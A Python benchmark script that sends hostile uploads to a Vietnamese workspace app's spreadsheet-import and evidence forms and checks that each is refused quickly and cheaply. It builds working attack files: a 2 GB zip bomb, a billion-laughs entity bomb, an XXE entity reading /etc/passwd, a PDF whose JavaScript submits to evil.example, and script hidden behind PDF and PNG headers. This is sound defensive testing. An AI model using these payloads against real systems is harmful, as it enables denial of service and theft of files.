"""Memory and time of hostile uploads through the workspace (issue 11): each file is sent by the Sở Nội
vụ's import form (spreadsheets) or a unit's explanation form (evidence) in a fresh process, which
reports the peak of the memory the request allocated (tracemalloc: the upload's own bytes included)
and the time it took. Target: under +100 MB and 2 s
for a hostile 20 MB upload, and a Vietnamese 400 for every one.

    python bench/hostile_uploads.py
"""
from __future__ import annotations

import io
import multiprocessing
import os
import re
import sys
import tempfile
import time
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

MB = 1024 * 1024


def _sheet_zip(sheet_xml: bytes, pad_to: int = 0) -> bytes:
    """A minimal .xlsx around one worksheet (optionally padded with an incompressible member)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
        archive.writestr("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                         '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                         '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                         'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if pad_to:
            archive.writestr("xl/media/pad.bin", os.urandom(pad_to), compress_type=zipfile.ZIP_STORED)
    return out.getvalue()


HEAD = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'


def zip_bomb() -> tuple[str, str, bytes]:
    """About 2 MB on the wire that inflates to 2 GB (one worksheet of empty rows, deflated ~1000×)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(HEAD)
            chunk = b"<row/>" * (MB // 6)
            for _ in range(2048):
                member.write(chunk)
    return "import", "bom.xlsx", out.getvalue()


def dimension_bomb() -> tuple[str, str, bytes]:
    return "import", "kich-thuoc.xlsx", _sheet_zip(
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        b'<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>',
        pad_to=19 * MB)


def billion_laughs() -> tuple[str, str, bytes]:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%s;" % (b"" if i == 1 else b"%d" % (i - 1)) * 10)
                        for i in range(1, 10))
    return "import", "cuoi.xlsx", _sheet_zip(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + entities + b"]>" + HEAD
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>', pad_to=19 * MB)


def external_entity() -> tuple[str, str, bytes]:
    return "import", "xxe.xlsx", _sheet_zip(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + HEAD
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>')


def pdf_with_javascript() -> tuple[str, str, bytes]:
    """A 9 MB PDF (a scan's worth of image data) that runs JavaScript and submits a form when opened."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("this.submitForm('http://evil.example')")})
    scan = DecodedStreamObject()
    scan.set_data(os.urandom(9 * MB))
    writer._root_object[NameObject("/PieceInfo")] = writer._add_object(scan)
    out = io.BytesIO()
    writer.write(out)
    return "evidence", "js.pdf", out.getvalue()


def html_behind_pdf_header() -> tuple[str, str, bytes]:
    return "evidence", "html.pdf", b"%PDF-1.4\n<html><script>alert(1)</script>" + b" " * (9 * MB) + b"</html>"


def html_behind_png() -> tuple[str, str, bytes]:
    png = (Path(__file__).resolve().parents[1] / "fixtures" / "signing" / "chu-ky-mau.png").read_bytes()
    return "evidence", "anh.png", png + b"<html><script>alert(1)</script>" + b" " * (9 * MB)


def over_the_limit() -> tuple[str, str, bytes]:
    return "evidence", "lon.pdf", b"%PDF-1.4\n" + os.urandom(12 * MB)


HOSTILE = {"zip bomb (2 GB inflated)": zip_bomb, "dimension A1:XFD1048576": dimension_bomb,
           "billion laughs": billion_laughs, "XXE file:///etc/passwd": external_entity,
           "PDF with JavaScript": pdf_with_javascript, "HTML behind %PDF-": html_behind_pdf_header,
           "HTML behind a PNG": html_behind_png, "file over the 10 MB limit": over_the_limit}


def _one(name: str, queue) -> None:
    folder = tempfile.mkdtemp()
    os.environ["CCHC_DATA_DIR"] = folder
    from service.web import create_app
    from service.web.demo import DEMO_PASSWORD, seed_demo
    app = create_app(f"sqlite:///{folder}/b.sqlite3", testing=True, secret_key="bench")
    seed_demo(app.extensions["cchc_engine"])
    form, filename, data = HOSTILE[name]()
    client = app.test_client()
    user = "admin" if form == "import" else "soxaydung"
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/dang-nhap").get_data(as_text=True))[1]
    client.post("/dang-nhap", data={"username": user, "password": DEMO_PASSWORD, "csrf_token": token})
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/chien-dich").get_data(as_text=True))[1]
    if form == "import":
        url, fields = "/chien-dich/ninh-binh-2026/du-lieu/nhap", {"loai": "nam-truoc", "tep": filename}
    else:
        from data_models import load_campaign
        from fixtures import FIXTURES_DIR
        from service.editing.assessment import leaf_rows
        code = next(r.leaf.code for r in leaf_rows(load_campaign(FIXTURES_DIR / "ninh-binh-2026"), "sxd") if r.lost_points)
        url = "/chien-dich/ninh-binh-2026/don-vi/sxd/giai-trinh"
        fields = {f"gt-{code}": "Giải trình", f"bs-{code}-0-so": "1/BC", f"bs-{code}-0-ngay": "06/12/2026",
                  f"bs-{code}-0-ten": "Tài liệu", f"bs-{code}-0-tepmoi": filename}
    client.get(url)                      # warm the caches: measure the upload, not the first page

    upload = next(key for key in fields if key == "tep" or key.endswith("-tepmoi"))

    def send():
        return client.post(url, data={"csrf_token": token, **fields, upload: (io.BytesIO(data), filename)},
                           content_type="multipart/form-data")
    start = time.perf_counter()
    send()                               # timed alone (tracemalloc slows Python down several times)
    elapsed = time.perf_counter() - start
    import tracemalloc
    tracemalloc.start()
    response = send()                    # refused again, nothing was stored: the same request, measured
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    page = response.get_data(as_text=True)
    message = re.search(r'<li>([^<]+)</li>', page) or re.search(r'class="field-error"[^>]*>([^<]+)<', page)
    queue.put((len(data) / MB, response.status_code, elapsed, peak / MB,
               (message[1].strip() if message else page[:80]).replace("\n", " ")))


def main() -> None:
    print(f"{'tệp độc hại':<28} {'MB':>6} {'HTTP':>5} {'giây':>6} {'đỉnh MB':>8}  thông báo")
    worst_time = worst_memory = 0.0
    for name in HOSTILE:
        queue = multiprocessing.get_context("spawn").Queue()
        process = multiprocessing.get_context("spawn").Process(target=_one, args=(name, queue))
        process.start()
        size, status, elapsed, memory, message = queue.get(timeout=600)
        process.join()
        worst_time, worst_memory = max(worst_time, elapsed), max(worst_memory, memory)
        print(f"{name:<28} {size:>6.1f} {status:>5} {elapsed:>6.2f} {memory:>8.1f}  {message[:90]}")
    print(f"hostile uploads: worst {worst_time:.2f} s, worst +{worst_memory:.0f} MB (target < 2 s, < +100 MB)")


if __name__ == "__main__":
    main()
